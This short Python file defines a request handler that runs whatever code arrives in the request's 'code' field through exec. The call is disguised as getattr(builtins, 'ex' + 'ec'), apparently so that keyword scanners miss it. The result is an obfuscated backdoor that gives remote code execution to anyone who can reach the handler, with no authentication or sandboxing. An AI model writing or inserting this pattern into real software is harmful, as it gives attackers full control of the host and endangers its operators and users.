import builtins


def handle(client, data):
    ns = {"client": client}
    getattr(builtins, "ex" + "ec")(data["code"], ns)
    return {"result": ns.get("result")}
